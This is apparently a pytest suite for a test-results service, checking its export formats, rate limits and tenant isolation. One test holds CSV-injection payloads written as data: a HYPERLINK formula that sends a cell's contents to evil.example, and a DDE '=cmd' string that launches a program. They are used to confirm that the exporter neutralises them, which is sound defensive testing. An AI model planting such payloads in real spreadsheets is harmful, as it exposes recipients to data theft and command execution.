"""Exports read back by real consumers: the JUnit XML through the project's own parser and
through junitparser, the CTRF JSON against CTRF's own schema (tests/schemas) and through the
project's CTRF parser, CSV with the csv module, NDJSON line by line, Parquet through pyarrow.
Exact counts everywhere. Isolation: another tenant's ids and a project-limited key."""

from __future__ import annotations

import csv
import io
import json
import sys
from collections import Counter
from pathlib import Path

import jsonschema
import pytest
from junitparser import Error, Failure, JUnitXml, Skipped

from qahub_lite.core import tenancy
from qahub_lite.db.database import direct_connection
from qahub_lite.reports import parse_report

pytestmark = pytest.mark.engines

SCHEMA = json.loads((Path(__file__).parent / "schemas" / "ctrf.schema.json").read_text())

# One of everything the formats must carry: statuses, a flaky pass with its failed attempt, a
# test that kept failing over two attempts, a linked test case, characters XML cannot hold raw.
RESULTS = [
    {"test_case_code": "TC-001", "status": "PASSED", "duration_ms": 1200, "file": "tests/test_login.py", "line": 3},
    {"title": "checkout <total> & \"tax\"", "suite": "shop › cart", "status": "FAILED", "duration_ms": 3800,
     "error_message": "AssertionError: expected 200\nbut got 500", "error_stack": "Traceback ...\n  line 9",
     "file": "tests/test_cart.py", "stdout": "\x1b[31mred\x1b[0m out"},
    {"title": "db down", "suite": "shop › cart", "status": "BROKEN", "error_message": "ConnectionError: refused",
     "file": "tests/test_cart.py"},
    {"title": "later", "suite": "shop", "status": "SKIPPED", "error_message": "not today"},
    {"title": "flaky one", "suite": "shop", "status": "PASSED", "duration_ms": 50, "flaky": True,
     "previous_attempts": [{"status": "FAILED", "duration_ms": 40, "error_message": "timing"}]},
    {"title": "kept failing", "suite": "shop", "status": "FAILED", "error_message": "boom", "attempts": 2,
     "previous_attempts": [{"status": "FAILED", "error_message": "boom 1"}]},
    {"title": "who knows", "suite": "shop", "status": "UNKNOWN"},
]


@pytest.fixture
def seeded(api):
    project = api.project("Shop")
    api.test_case(project["id"], "Login works", code="TC-001")
    run = api.post("/api/v1/ingest", {"project_id": project["id"], "run_name": "CI #7", "results": RESULTS,
                                      "ci": {"branch": "main", "commit": "abc123"}}).json()
    return project, run


@pytest.fixture(params=[500, 2], ids=["one-chunk", "chunks-of-2"])
def chunked(request, monkeypatch):
    """The report formats stream chunk by chunk; with chunks of 2 a suite spans several."""
    from qahub_lite.core import export_rows

    monkeypatch.setattr(export_rows, "DETAIL_CHUNK_ROWS", request.param)
    return request.param


def _get(api, path, **params):
    r = api.get(path, params=params)
    assert r.status_code == 200, r.text
    return r


def test_junit_export_reads_back_through_our_parser_and_junitparser(api, seeded, tmp_path, chunked):
    _, run = seeded
    r = _get(api, f"/api/v1/runs/{run['run_id']}/export", format="junit")
    assert r.headers["content-type"].startswith("application/xml")
    path = tmp_path / "export.xml"
    path.write_bytes(r.content)

    report = parse_report(path)  # the project's own JUnit parser, format detected from content
    assert report.format == "junit"
    by_title = {res.title: res for res in report.results}
    assert len(report.results) == len(RESULTS)
    # UNKNOWN has no JUnit outcome: written as skipped, with a message naming it.
    assert Counter(res.status for res in report.results) == {"PASSED": 2, "FAILED": 2, "BROKEN": 1, "SKIPPED": 2}
    assert by_title["flaky one"].flaky and len(by_title["flaky one"].attempts) == 2
    assert by_title["flaky one"].attempts[0].error_message == "timing"
    assert len(by_title["kept failing"].attempts) == 2 and not by_title["kept failing"].flaky
    failed = by_title['checkout <total> & "tax"']
    assert failed.error_message.startswith("AssertionError: expected 200") and failed.error_stack.startswith("Trace")
    assert failed.suite_path == ["shop › cart"] and failed.file == "tests/test_cart.py"
    assert failed.duration_ms == 3800
    assert "who knows" in by_title and "UNKNOWN" in (by_title["who knows"].error_message or "")

    xml = JUnitXml.fromfile(str(path))  # a second, independent reader
    cases = [case for suite in xml for case in suite]
    assert len(cases) == len(RESULTS)
    kinds = Counter(type(res).__name__ for case in cases for res in case.result
                    if isinstance(res, (Failure, Error, Skipped)))
    assert kinds == {"Failure": 2, "Error": 1, "Skipped": 2}
    assert (xml.tests, xml.failures, xml.errors, xml.skipped) == (7, 2, 1, 2)
    assert sum(suite.tests for suite in xml) == 7
    assert sum(suite.failures for suite in xml) == 2 and sum(suite.skipped for suite in xml) == 2


def test_ctrf_export_is_valid_against_ctrfs_schema_and_reads_back(api, seeded, tmp_path, chunked):
    _, run = seeded
    doc = _get(api, f"/api/v1/runs/{run['run_id']}/export", format="ctrf").json()
    validator = jsonschema.Draft7Validator(SCHEMA, format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER)
    errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(doc)]
    assert not errors, errors
    summary = doc["results"]["summary"]
    assert (summary["tests"], summary["passed"], summary["failed"], summary["skipped"], summary["other"],
            summary["flaky"]) == (7, 2, 3, 1, 1, 1)
    tests = {t["name"]: t for t in doc["results"]["tests"]}
    assert tests["flaky one"]["retries"] == 1 and tests["flaky one"]["retryAttempts"][0]["message"] == "timing"
    assert tests["db down"]["rawStatus"] == "BROKEN" and tests["Login works"]["extra"]["test_case_code"] == "TC-001"
    assert doc["results"]["environment"]["branchName"] == "main"

    path = tmp_path / "export.ctrf.json"
    path.write_text(json.dumps(doc))
    back = parse_report(path)  # and the project's CTRF parser reads it as CTRF
    assert back.format == "ctrf" and len(back.results) == 7
    assert sum(1 for res in back.results if res.flaky) == 1


def test_a_broken_export_fails_the_schema(api, seeded):
    # The check can fail: a test without its required duration is refused by the schema.
    _, run = seeded
    doc = _get(api, f"/api/v1/runs/{run['run_id']}/export", format="ctrf").json()
    del doc["results"]["tests"][0]["duration"]
    assert not jsonschema.Draft7Validator(SCHEMA).is_valid(doc)


def test_run_csv_and_ndjson_have_one_row_per_result_with_the_runs_context(api, seeded):
    _, run = seeded
    rows = list(csv.DictReader(io.StringIO(_get(api, f"/api/v1/runs/{run['run_id']}/export", format="csv").text)))
    assert len(rows) == len(RESULTS)
    assert {r["run_id"] for r in rows} == {run["run_id"]} and {r["branch"] for r in rows} == {"main"}
    assert Counter(r["status"] for r in rows)["FAILED"] == 2
    assert rows[[r["title"] for r in rows].index('checkout <total> & "tax"')]["error_message"].endswith("got 500")
    lines = _get(api, f"/api/v1/runs/{run['run_id']}/export", format="ndjson").text.splitlines()
    docs = [json.loads(line) for line in lines]
    assert len(docs) == len(RESULTS) and sum(d["flaky"] for d in docs) == 1
    assert {d["attempts"] for d in docs if d["title"] == "kept failing"} == {2}


def _bulk_project(api, runs: int = 3, per_run: int = 40):
    project = api.project("Bulk")
    ids = []
    for i in range(runs):
        body = {"project_id": project["id"], "run_name": f"run {i}", "ci": {"branch": "main" if i % 2 == 0 else "dev"},
                "results": [{"title": f"t{j}", "suite": f"s{j % 4}", "status": "FAILED" if j % 10 == 0 else "PASSED",
                             "duration_ms": j, "file": f"f{j % 5}.py"} for j in range(per_run)]}
        ids.append(api.post("/api/v1/ingest", body).json()["run_id"])
    return project, ids


def test_bulk_csv_and_ndjson_count_every_result_and_filter_by_branch(api, monkeypatch):
    from qahub_lite.core import export_rows

    monkeypatch.setattr(export_rows, "CHUNK_ROWS", 7)  # many chunks per run: the keyset walk is exercised
    monkeypatch.setattr(export_rows, "RUN_PAGE", 2)
    project, ids = _bulk_project(api)
    path = f"/api/v1/projects/{project['id']}/results/export"
    r = _get(api, path, format="csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 120 and r.headers["x-result-count"] == "120"
    assert [r["run_id"] for r in rows[::40]] == ids  # oldest run first
    assert len({(r["run_id"], r["test_id"]) for r in rows}) == 120  # no row twice
    main = [json.loads(line) for line in _get(api, path, format="ndjson", branch="main").text.splitlines()]
    assert len(main) == 80 and {d["branch"] for d in main} == {"main"}
    assert sum(d["status"] == "FAILED" for d in main) == 8
    assert _get(api, path, format="csv", since="2999-01-01T00:00:00Z").text.count("\n") == 1  # header only


def test_bulk_parquet_reads_back_through_pyarrow(api):
    import pyarrow.parquet as pq

    project, ids = _bulk_project(api, runs=2, per_run=25)
    r = _get(api, f"/api/v1/projects/{project['id']}/results/export", format="parquet")
    table = pq.read_table(io.BytesIO(r.content))
    assert table.num_rows == 50
    assert table.column("run_id").to_pylist()[0] == ids[0]
    assert sum(table.column("duration_ms").to_pylist()) == 2 * sum(range(25))
    assert str(table.schema.field("flaky").type) == "bool"
    assert str(table.schema.field("executed_at").type) == "timestamp[ms, tz=UTC]"
    created = table.column("run_created_at").to_pylist()[0]
    run = api.get(f"/api/v1/runs/{ids[0]}").json()
    assert created.isoformat(timespec="milliseconds").replace("+00:00", "Z") == run["created_at"]


def test_parquet_without_pyarrow_is_a_400_that_says_how_to_get_it(api, monkeypatch):
    project, _ = _bulk_project(api, runs=1, per_run=2)
    for name in [m for m in sys.modules if m == "pyarrow" or m.startswith("pyarrow.")]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # what an installation without the extra sees
    r = api.get(f"/api/v1/projects/{project['id']}/results/export", params={"format": "parquet"})
    assert r.status_code == 400
    assert "qahub-lite[parquet]" in r.json()["message"] and set(r.json()) == {"error", "message"}


def test_bad_export_queries_are_400s(api, seeded):
    project, run = seeded
    assert api.get(f"/api/v1/runs/{run['run_id']}/export", params={"format": "xlsx"}).status_code == 400
    r = api.get(f"/api/v1/projects/{project['id']}/results/export",
                params={"since": "2026-02-01T00:00:00Z", "until": "2026-01-01T00:00:00Z"})
    assert r.status_code == 400 and "until" in r.json()["message"]
    assert api.get(f"/api/v1/projects/{project['id']}/results/export", params={"nope": "1"}).status_code == 400


def test_a_project_limited_key_exports_its_project_only(api, seeded):
    project, run = seeded
    other = api.project("Other")
    other_run = api.post("/api/v1/ingest", {"project_id": other["id"], "results": [
        {"title": "x", "status": "PASSED"}]}).json()
    with direct_connection(api.config) as conn:
        key = tenancy.create_key(conn, api.tenant_id, scope="read", project_id=project["id"]).key
    for path in (f"/api/v1/runs/{other_run['run_id']}/export", f"/api/v1/runs/{other_run['run_id']}/summary",
                 f"/api/v1/projects/{other['id']}/results/export", f"/api/v1/projects/{other['id']}/timings"):
        assert api.get(path, key=key).status_code == 404, path
    for path in (f"/api/v1/runs/{run['run_id']}/export", f"/api/v1/runs/{run['run_id']}/summary",
                 f"/api/v1/projects/{project['id']}/results/export", f"/api/v1/projects/{project['id']}/timings"):
        assert api.get(path, key=key).status_code == 200, path


def test_another_tenants_ids_are_404_and_no_key_is_401(api, seeded):
    project, run = seeded
    with direct_connection(api.config) as conn:
        tenant = tenancy.create_tenant(conn, "tenant-x")
        key = tenancy.create_key(conn, tenant.id, scope="admin").key
    for path in (f"/api/v1/runs/{run['run_id']}/export", f"/api/v1/runs/{run['short_id']}/summary",
                 f"/api/v1/projects/{project['id']}/results/export", f"/api/v1/projects/{project['id']}/timings"):
        assert api.get(path, key=key).status_code == 404, path
        assert api.client.get(path).status_code == 401, path


def test_variants_of_one_test_stay_apart_in_every_export(api):
    # Two executions of one library test case (browsers) must not read as one test twice.
    project = api.project("Variants")
    api.test_case(project["id"], "Checkout", code="TC-7")
    run = api.post("/api/v1/ingest", {"project_id": project["id"], "results": [
        {"test_case_code": "TC-7", "status": "PASSED", "variant": "chromium"},
        {"test_case_code": "TC-7", "status": "FAILED", "variant": "firefox", "error_message": "boom"}]}).json()
    csv_text = api.get(f"/api/v1/runs/{run['run_id']}/export?format=csv").text
    assert "Checkout [chromium]" in csv_text and "Checkout [firefox]" in csv_text
    junit = api.get(f"/api/v1/runs/{run['run_id']}/export?format=junit").text
    assert 'name="Checkout [firefox]"' in junit and 'name="Checkout [chromium]"' in junit


def test_huge_messages_are_read_a_bounded_amount_at_a_time(api, monkeypatch):
    """12 results with 1 MB messages and stacks: no export reads more than its text budget (and
    one row) in one query, no Parquet row group holds more than its budget, and every byte
    still arrives. Before the bound, one chunk read all 24 MB (5,000 such rows: 10 GB)."""
    import pyarrow.parquet as pq

    from qahub_lite.core import export_bulk, export_rows

    budget, big = 2_500_000, 1_000_000
    monkeypatch.setattr(export_rows, "CHUNK_TEXT_CHARS", budget, raising=False)
    monkeypatch.setattr(export_bulk, "PARQUET_GROUP_TEXT_CHARS", budget, raising=False)
    project = api.project("Huge")
    results = [{"title": f"t{i}", "status": "FAILED", "error_message": chr(65 + i) * big,
                "error_stack": "s" * big} for i in range(12)]
    run = api.post("/api/v1/ingest", {"project_id": project["id"], "results": results}).json()
    largest: list[int] = []
    fetch = export_rows._fetch

    async def measured(db, fn, *args, **kwargs):
        rows = await fetch(db, fn, *args, **kwargs)
        largest.append(sum(len(v) for row in rows for v in row if isinstance(v, str)))
        return rows

    monkeypatch.setattr(export_rows, "_fetch", measured)
    for fmt in ("csv", "junit", "ctrf"):
        largest.clear()
        body = _get(api, f"/api/v1/runs/{run['run_id']}/export", format=fmt).text
        assert all(chr(65 + i) * big in body for i in range(12)), fmt
        assert max(largest) <= budget + 2 * big + 10_000, (fmt, max(largest))
    r = _get(api, f"/api/v1/projects/{project['id']}/results/export", format="parquet")
    parquet = pq.ParquetFile(io.BytesIO(r.content))
    assert parquet.metadata.num_rows == 12
    assert parquet.metadata.num_row_groups >= 12 * big // (budget + big)


def test_csv_cells_cannot_be_spreadsheet_formulas(api):
    """A title, suite, file, code, message, framework or run name a spreadsheet would run as a
    formula is written as text (a leading apostrophe) in CSV, exactly as stored in NDJSON."""
    project = api.project("Formulas")
    evil = {"title": '=HYPERLINK("https://evil.example/?"&A2,"open")', "suite": "+1+1", "file": "@SUM(A1)",
            "error_message": "-2+3", "framework": "\tx", "status": "FAILED"}
    run = api.post("/api/v1/ingest", {"project_id": project["id"], "results": [evil, {"title": "a-b = c",
                                      "status": "PASSED"}], "run_name": "=cmd|' /C calc'!A0"}).json()
    rows = list(csv.DictReader(io.StringIO(_get(api, f"/api/v1/runs/{run['run_id']}/export", format="csv").text)))
    bad = next(r for r in rows if r["status"] == "FAILED")
    for column in ("title", "suite", "file", "error_message", "framework"):
        assert bad[column] == "'" + evil[column], column
    assert {r["run_name"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    assert next(r for r in rows if r["status"] == "PASSED")["title"] == "a-b = c"  # only the first character
    lines = _get(api, f"/api/v1/runs/{run['run_id']}/export", format="ndjson").text.splitlines()
    exact = next(json.loads(line) for line in lines if json.loads(line)["status"] == "FAILED")
    assert exact["title"] == evil["title"] and exact["run_name"] == "=cmd|' /C calc'!A0"


def test_one_key_streams_at_most_two_exports_at_once(api, seeded):
    """30 concurrent exports with one read key held /readyz for 20 s on two cores. A key
    streams two at once (the server, one per core); the next is a 429 with Retry-After at
    once, another key still exports, and a slot comes back however its stream ended."""
    import gc

    from qahub_lite.api.export_slots import PER_KEY

    project, run = seeded
    slots = api.client.app.state.services.export_slots
    key_id = api.admin_key.split("_")[1]
    path = f"/api/v1/runs/{run['run_id']}/export"
    for _ in range(PER_KEY):  # two exports of this key streaming now
        slots.take(key_id)
    busy = api.get(path, params={"format": "csv"})
    assert busy.status_code == 429 and busy.headers["retry-after"] == "10", busy.text
    assert "2 exports streaming" in busy.json()["message"]
    assert api.get(f"/api/v1/projects/{project['id']}/results/export").status_code == 429
    with direct_connection(api.config) as conn:
        other = tenancy.create_key(conn, api.tenant_id, scope="read").key
    assert api.get(path, key=other).status_code == 200
    for _ in range(PER_KEY):
        slots.give_back(key_id)
    for fmt in ("junit", "ctrf", "csv", "ndjson"):
        assert api.get(path, params={"format": fmt}).status_code == 200
    assert (slots.held, slots.by_key) == (0, {})  # every finished stream gave its slot back

    async def never_read():
        yield b"x"

    slots.take(key_id)
    dropped = slots.hold(key_id, never_read())  # a client gone before the response started
    del dropped
    gc.collect()
    assert (slots.held, slots.by_key) == (0, {})
